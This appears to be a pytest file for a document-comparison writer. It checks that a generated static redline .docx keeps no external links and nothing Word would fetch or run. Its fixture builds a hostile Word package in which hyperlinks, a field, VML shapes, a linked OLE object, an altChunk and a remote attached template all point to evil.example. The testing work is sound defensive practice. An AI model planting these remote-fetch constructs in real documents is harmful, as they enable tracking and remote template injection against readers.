"""A static redline leads nowhere: no link out, nothing that Word would fetch or run when it opens the file."""

from __future__ import annotations

import pytest

from drafting.ooxml.names import w
from drafting.ooxml.package import Package
from drafting.ooxml.reading import read_package
from drafting.writers.static.write import write
from tests.making.compared import comparison, text_after_the_sheet
from tests.making.packages import NAMESPACES, PR, R, paragraph, relationships, run, with_parts
from tests.making.schemas import invalid, needs_schemas

EVIL = "https://evil.example/"
VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
BODY = (
    paragraph("Delivery of {} kb/d.")
    + f'<w:p><w:hyperlink r:id="rId21">{run("the price list")}</w:hyperlink></w:p>'
    + f'<w:p><w:hyperlink w:anchor="here">{run("Article 2")}</w:hyperlink></w:p>'
    + f'<w:p><w:fldSimple w:instr=" HYPERLINK &quot;{EVIL}field&quot; ">{run("by field")}</w:fldSimple></w:p>'
    + f'<w:p><w:r><w:pict {VML}><v:rect id="r" href="{EVIL}shape" style="width:9pt;height:9pt"/></w:pict></w:r></w:p>'
    + f'<w:p><w:r><w:pict {VML}><v:rect id="p" style="width:9pt;height:9pt"><v:imagedata r:id="rId22" src="{EVIL}s"/>'
    "</v:rect></w:pict></w:r></w:p>"
    + f'<w:p><w:r><w:object {VML}><v:shape id="o" style="width:9pt;height:9pt"/><o:OLEObject Type="Link" '
    'ProgID="Excel.Sheet.12" ShapeID="o" DrawAspect="Content" r:id="rId23" UpdateMode="Always"/></w:object></w:r></w:p>'
    + f"<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc>{paragraph('Cell')}"
    '<w:altChunk r:id="rId24"/></w:tc></w:tr></w:tbl>'
    + paragraph("Done.")
)  # fmt: skip
SETTINGS = f'<w:settings {NAMESPACES}><w:attachedTemplate r:id="rId1"/></w:settings>'


def hostile(volume: str) -> bytes:
    outside = (
        ("rId21", "hyperlink", f"{EVIL}link"), ("rId22", "image", f"{EVIL}picture"),
        ("rId23", "oleObject", f"{EVIL}ole"), ("rId24", "aFChunk", f"{EVIL}chunk"),
    )  # fmt: skip
    rows = "".join(
        f'<Relationship Id="{ident}" Type="{R}/{kind}" Target="{target}" TargetMode="External"/>'
        for ident, kind, target in outside
    )
    inside = f'<Relationship Id="rId25" Type="{R}/settings" Target="settings.xml"/>'
    template = relationships([("rId1", "attachedTemplate", f"{EVIL}template.dotm")], external=True)
    return with_parts(BODY.format(volume), {
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{PR}">{rows}{inside}</Relationships>',
        "word/settings.xml": SETTINGS,
        "word/_rels/settings.xml.rels": template,
    })  # fmt: skip


@pytest.fixture(scope="module")
def static() -> Package:
    return read_package(write(comparison(hostile("4,000"), hostile("3,200"))), "static.docx")


def test_nothing_leads_out_of_it_and_no_address_stays(static: Package) -> None:
    assert EVIL.encode() in read_package(hostile("1"), "a.docx").data("word/document.xml")
    assert not [row.target for rows in static.relations.values() for row in rows.values() if row.external]
    assert not [part for part in static.parts if b"evil.example" in static.data(part)]
    for tag in ("altChunk", "attachedTemplate", "fldSimple"):
        assert not list(static.root(static.main).iter(w(tag)))


def test_the_words_of_links_stay_and_links_within_the_text_stay_links(static: Package) -> None:
    blocks = text_after_the_sheet(static)
    said = ["".join(t.text or "" for t in block.iter(w("t"))) for block in blocks]
    assert {"the price list", "by field", "Article 2", "Done."} <= set(said)
    (link,) = static.root(static.main).iter(w("hyperlink"))
    assert dict(link.attrib) == {w("anchor"): "here"}


@needs_schemas
def test_it_is_valid_without_them(static: Package) -> None:
    assert set(invalid(static)) <= set(invalid(read_package(hostile("4,000"), "old.docx")))
